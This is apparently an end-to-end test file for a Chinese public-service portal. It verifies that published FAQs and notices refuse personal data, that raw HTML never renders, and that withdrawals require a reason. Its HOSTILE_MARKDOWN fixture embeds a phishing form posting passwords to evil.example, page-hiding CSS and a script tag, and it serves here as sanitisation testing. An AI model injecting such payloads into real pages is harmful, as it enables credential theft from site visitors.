"""What officers publish, in the browser: a question with the asker's phone, name and address
is not put in the FAQ (the places are marked, the officer's text kept), nor a notice with a
mobile number; raw HTML in a notice's Markdown never reaches the public page; withdrawing a
notice asks for a reason and a second, explicit "yes", and the reason is shown at its
address."""

from __future__ import annotations

from datetime import date

from playwright.sync_api import Browser, Page, expect
from sqlmodel import select

from convenience_center.models import AuditEntry, Inquiry, Publication, User
from convenience_center.services import applications, inquiries, publications
from convenience_center.services.admin_users import create_staff
from tests.e2e.conftest import RunningApp
from tests.e2e.helpers import goto, text, wait_ready
from tests.e2e.test_participation import create_officer
from tests.e2e.test_shell import axe_violations
from tests.e2e.test_staff_workflow import officer_page
from tests.factories import Person, id_number
from tests.services.helpers import current
from tests.services.test_applications import complete_draft

QUESTION = "我是李娜，电话13912345678，住经八路12号。独生子女证丢了怎么补办？"


def answered_question(app: RunningApp) -> Inquiry:
    """李娜, who applied with 郑州市金水区经八路 12 号 as her address, asked with her phone, her
    name and that address in the text; the county answered."""
    person = Person(real_name="李娜", id_number=id_number(birth=date(1992, 3, 15), male=False))
    with app.db() as db:
        user_id, public_id, _ = complete_draft(db, person)
        applications.submit(db, user_id=user_id, public_id=public_id)
        question = inquiries.ask(db, user_id=user_id, office_code="410105", service_code="",
                                 subject="补办独生子女证", question=QUESTION)
        answerer = create_staff(db, username=f"a{person.username}", real_name="答复员",
                                email=f"a{person.email}", role="county", office_code="410105",
                                password=person.password)
        inquiries.answer(db, user=current(answerer), inquiry_id=question.id,
                         text="请携带身份证到户籍所在地乡镇（街道）计生办申请补办。")
        return question


def test_the_faq_refuses_the_askers_personal_data_and_marks_it(browser: Browser,
                                                                app: RunningApp):
    question = answered_question(app)
    officer = create_officer(app, "county", "410105", "周十四")
    staff = officer_page(browser, app, officer)
    goto(staff, app, "/staff/consultations?tab=answered")
    staff.get_by_role("button", name=f"{text('sp.open')} {question.tracking_no}").click()
    box = staff.get_by_label(text("sp.consult_faq_question"))
    expect(box).to_have_value(QUESTION)  # pre-filled with the question as it was asked

    staff.get_by_role("button", name=text("sp.consult_publish_faq")).click()
    expect(staff.locator("#f-faq_question-error")).to_contain_text(text("personal_data.found"))
    marks = staff.locator("#f-faq_question-personal-data mark")
    expect(marks).to_have_count(3)
    for place in ("李娜", "13912345678", "经八路12号"):
        expect(marks.filter(has_text=place)).to_have_count(1)
    expect(staff.locator("#f-faq_question-personal-data")).to_contain_text("手机号码")
    expect(box).to_have_value(QUESTION)  # the officer's text is kept
    expect(staff.locator("#error-summary")).to_contain_text(text("personal_data.found"))
    assert axe_violations(staff) == []

    staff.get_by_role("button", name=text("nav.switch_language_label")).click()
    expect(staff.locator("#f-faq_question-error")).to_contain_text(
        text("personal_data.found", "en"))
    expect(staff.locator("#f-faq_question-personal-data")).to_contain_text("Mobile number")
    staff.get_by_role("button", name=text("nav.switch_language_label", "en")).click()

    with app.db() as db:
        assert db.get(Inquiry, question.id).faq_published_at is None
    visitor = browser.new_context(locale="zh-CN").new_page()
    goto(visitor, app, "/faq")
    visitor.get_by_label(text("faq.search")).fill("独生子女证丢了")
    visitor.get_by_role("button", name=text("common.search")).click()
    expect(visitor.get_by_text(text("faq.none"))).to_be_visible()

    box.fill("独生子女证丢了怎么补办？")
    staff.get_by_role("button", name=text("sp.consult_publish_faq")).click()
    expect(staff.get_by_text(text("sp.consult_published"))).to_be_visible()
    expect(staff.locator("#f-faq_question-personal-data")).to_have_count(0)
    goto(visitor, app, "/faq")
    expect(visitor.get_by_text("独生子女证丢了怎么补办？")).to_be_visible()
    expect(visitor.get_by_text("13912345678")).to_have_count(0)


def publisher_page(browser: Browser, app: RunningApp, name: str) -> tuple[Page, Person]:
    author = create_officer(app, "city", "410100", name)
    done = app.cc_admin("grant-publishing", "--username", author.username)
    assert done.returncode == 0, done.stderr
    page = officer_page(browser, app, author)
    goto(page, app, "/staff/publications")
    return page, author


def write_notice(staff: Page, title: str, body_zh: str) -> None:
    staff.get_by_role("button", name=text("sp.pub_new")).click()
    staff.get_by_label(text("sp.pub_category")).select_option("notice")
    staff.get_by_label(text("sp.pub_title_zh")).fill(title)
    staff.get_by_label(text("sp.pub_title_en")).fill("Notice " + title[-4:])
    staff.get_by_label(text("sp.pub_body_zh")).fill(body_zh)
    staff.get_by_label(text("sp.pub_body_en")).fill("See the Chinese text.")
    staff.get_by_role("button", name=text("sp.pub_save_draft")).click()
    expect(staff.get_by_text(text("sp.pub_saved", number="").strip())).to_be_visible()


HOSTILE_MARKDOWN = """**请注意**：系统升级。

<form action="https://evil.example/steal" method="post"><label>请重新输入密码
<input type="password" name="pw"></label><button>确认</button></form>

<style>body { display: none !important; } .cc-header { display: none; }</style>

<script>document.title = "pwned"</script>

升级期间网上办理照常。"""


def test_a_notice_with_a_phone_is_refused_and_raw_html_never_renders(browser: Browser,
                                                                       app: RunningApp):
    staff, _ = publisher_page(browser, app, "卫十五")
    title = "关于系统升级的通知 A1"
    write_notice(staff, title, "如有疑问请联系王科长，手机 13912345678。")
    staff.get_by_role("button", name=f"{text('sp.pub_close_editor')}").click()
    staff.get_by_role("button", name=f"{text('sp.pub_publish')} {title}").click()
    expect(staff.locator("#f-body_zh-error")).to_contain_text(text("personal_data.found"))
    marks = staff.locator("#f-body_zh-personal-data mark")
    expect(marks).to_have_count(1)
    expect(marks).to_contain_text("13912345678")
    expect(staff.get_by_label(text("sp.pub_body_zh"))).to_have_value(
        "如有疑问请联系王科长，手机 13912345678。")
    with app.db() as db:
        item = db.exec(select(Publication).where(Publication.title_zh == title)).one()
    assert item.status == "draft"

    staff.get_by_label(text("sp.pub_body_zh")).fill(HOSTILE_MARKDOWN)
    staff.get_by_role("button", name=text("sp.pub_save_draft")).click()
    expect(staff.get_by_text(text("sp.pub_saved", number=item.pub_no))).to_be_visible()
    staff.get_by_role("button", name=f"{text('sp.pub_publish')} {title}").click()
    expect(staff.get_by_text(text("sp.pub_published", number=item.pub_no))).to_be_visible()

    visitor = browser.new_context(locale="zh-CN").new_page()
    goto(visitor, app, f"/open/{item.pub_no}")
    document = visitor.locator(".cc-doc")
    expect(document.locator("strong")).to_have_text("请注意")
    expect(document).to_contain_text("升级期间网上办理照常")
    expect(visitor.locator("input[type=password]")).to_have_count(0)
    expect(visitor.locator("form[action*='evil.example']")).to_have_count(0)
    expect(document.locator("form, style, script, input, button")).to_have_count(0)
    assert visitor.evaluate(
        "[...document.querySelectorAll('style')].filter("
        "s => s.textContent.includes('display: none !important')).length") == 0
    expect(visitor.locator("header.cc-header, .cc-header").first).to_be_visible()
    assert visitor.title() != "pwned"
    assert axe_violations(visitor) == []


def test_withdrawing_a_notice_asks_for_a_reason_and_a_yes(browser: Browser, app: RunningApp):
    staff, author = publisher_page(browser, app, "蒋十六")
    title = "关于调整咨询时间的通知 B2"
    write_notice(staff, title, "自下周起咨询时间调整为 9:00—17:00。")
    with app.db() as db:
        item = db.exec(select(Publication).where(Publication.title_zh == title)).one()
        account = db.exec(select(User).where(User.username == author.username)).one()
        publications.publish(db, user=current(account), publication_id=item.id)
    goto(staff, app, "/staff/publications")

    staff.get_by_role("button", name=f"{text('sp.pub_withdraw')} {title}").click()
    panel = staff.get_by_role("region", name=text("sp.pub_withdraw_confirm_title",
                                                  number=item.pub_no))
    expect(panel).to_be_visible()
    expect(panel).to_contain_text(title)
    with app.db() as db:  # one click changed nothing
        assert db.get(Publication, item.id).status == "published"
    panel.get_by_role("button", name=text("sp.pub_withdraw_no")).click()
    expect(panel).to_have_count(0)

    staff.get_by_role("button", name=f"{text('sp.pub_withdraw')} {title}").click()
    staff.get_by_role("button", name=text("sp.pub_withdraw_yes")).click()
    expect(staff.locator("#f-withdraw_reason-error")).to_contain_text(
        text("open.withdraw_reason_required"))
    with app.db() as db:
        assert db.get(Publication, item.id).status == "published"
    assert axe_violations(staff) == []
    staff.get_by_label(text("sp.pub_withdraw_reason")).fill("时间有误，将发布更正后的通知")
    staff.get_by_role("button", name=text("sp.pub_withdraw_yes")).click()
    expect(staff.get_by_text(text("sp.pub_withdrawn", number=item.pub_no))).to_be_visible()
    expect(staff.get_by_role("row").filter(has_text=title)).to_contain_text(
        "时间有误，将发布更正后的通知")
    with app.db() as db:
        assert db.get(Publication, item.id).status == "withdrawn"
        entry = db.exec(select(AuditEntry).where(AuditEntry.action == "publication.withdraw",
                                                 AuditEntry.target_id == item.pub_no)).one()
    assert "时间有误，将发布更正后的通知" in (entry.detail or "")

    reader = browser.new_context(locale="en-US").new_page()
    goto(reader, app, f"/open/{item.pub_no}")
    expect(reader.get_by_role("heading", level=1)).to_have_text(
        text("open.withdrawn_title", "en", number=item.pub_no))
    expect(reader.get_by_text("时间有误，将发布更正后的通知")).to_be_visible()
    expect(reader.get_by_text("自下周起咨询时间调整")).to_have_count(0)
    wait_ready(staff)
